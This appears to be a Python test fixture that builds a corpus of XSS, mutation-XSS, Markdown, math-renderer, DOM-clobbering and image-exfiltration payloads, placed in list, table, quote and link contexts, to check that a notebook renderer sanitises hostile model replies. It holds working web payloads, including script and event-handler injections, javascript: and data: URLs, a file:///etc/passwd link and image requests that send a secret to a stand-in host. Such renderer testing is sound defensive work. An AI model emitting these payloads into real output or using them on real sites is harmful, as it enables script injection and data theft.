"""Hostile replies: what a model (or a page it quotes) might send to a notebook user.

Drawn from the public XSS and mXSS cheat sheets (OWASP, PortSwigger, Cure53's
DOMPurify tests), Markdown-specific vectors, math-renderer vectors, image exfiltration
and DOM clobbering; each base vector is also placed in a list item, a table cell, a
block quote and a link's text, since a renderer's rules can differ by context. Every
payload that runs calls ``alert`` (seen as a dialog), ``top.__pwn()`` or fetches from
``LEAK`` (seen as a request), so the browser test notices whatever gets through.
"""

from __future__ import annotations

LEAK = "https://leak.example"

BASE: list[str] = [
    # -- raw HTML and attributes ---------------------------------------------------------
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://leak.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=top.__pwn()>",
    '<img src="https://leak.example/pixel.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://leak.example/">',
    '<base href="https://leak.example/">',
    '<form action="https://leak.example/"><button>go</button></form>',
    '<link rel="stylesheet" href="https://leak.example/x.css">',
    "<style>@import 'https://leak.example/x.css';</style>",
    '<div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>',
    '<div style="background:url(https://leak.example/bg.png)">bg</div>',
    '<p class="jp-Dialog lm-Widget">class overlay</p>',
    "<form id=nb><input name=model></form>",
    '<img name="getElementById" id="body">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<img srcset="https://leak.example/s.png 1x">',
    '<video poster="https://leak.example/p.png"></video>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    # -- Markdown ---------------------------------------------------------------------------
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](java\u200bscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](/api/kernels)",
    "[x](//leak.example/)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://leak.example/md.png?secret=42)",
    "![x][i]\n\n[i]: https://leak.example/ref.png",
    '![x](https://leak.example/t.png "title")',
    "[![x](https://leak.example/nested.png)](https://ok.example)",
    'www.leak.example/"onmouseover=alert(1)',
    "https://ok.example/<img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "<!-- <img src=x onerror=alert(1)> -->",
    "**<img src=x onerror=alert(1)>**",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [x] <img src=x onerror=alert(1)>",
    "\u202e[txt.exe](javascript:alert(1))",
    # -- math -------------------------------------------------------------------------------
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\url{javascript:alert(1)}$",
    "\\(\\href{https://leak.example/}{x}\\)",
    "$\\includegraphics{https://leak.example/m.png}$",
    "$\\htmlClass{jp-Dialog}{x}$",
    "$\\htmlStyle{position:fixed;inset:0}{x}$",
    "$\\htmlId{body}{x}$",
    "$\\class{x}{y}$",
    "$\\rule{100em}{100em}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\unicode{<img src=x onerror=alert(1)>}$",
    "$</math><img src=x onerror=alert(1)>$",
    "$$x</mtext><script>alert(1)</script>$$",
]

CONTEXTS = [
    "{}",
    "- {}",
    "| c |\n|---|\n| {} |",
    "> {}",
    "[{}](https://ok.example)",
]


def corpus() -> list[str]:
    """Every base vector in every context (a context a vector breaks is kept too)."""
    seen: dict[str, None] = {}
    for context in CONTEXTS:
        for vector in BASE:
            seen.setdefault(context.replace("{}", vector))
    return list(seen)


#: the vectors a renderer with no rules lets run (the positive control's expected hits)
RAW_HITS_AT_LEAST = 8
